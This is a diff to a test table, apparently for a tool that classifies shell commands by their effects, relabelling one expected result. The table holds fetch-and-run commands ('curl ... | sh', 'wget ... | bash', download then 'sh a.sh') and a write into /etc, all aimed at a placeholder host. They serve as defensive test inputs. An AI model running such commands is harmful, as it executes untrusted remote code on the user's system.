@@ -13,7 +13,7 @@ DOES = [
     (f"curl {U}/a", "connects=x.example"),
     (f"curl -s {U} | sh", "runs-code:from-network"),
     (f"wget -qO- {U} | bash", "runs-code:from-network"),
-    (f"curl -o a.sh {U}; sh a.sh", "runs-code:from-network"),
+    (f"curl -o a.sh {U}; sh a.sh", "executes:from-network"),
     (f"curl -o a.sh {U}", "writes:downloaded"),
     (f"curl -O {U}/d/a.sh", "writes=/home/user/project/a.sh"),
     (f"curl --output-dir /etc -O {U}/a", "writes=/etc/a"),
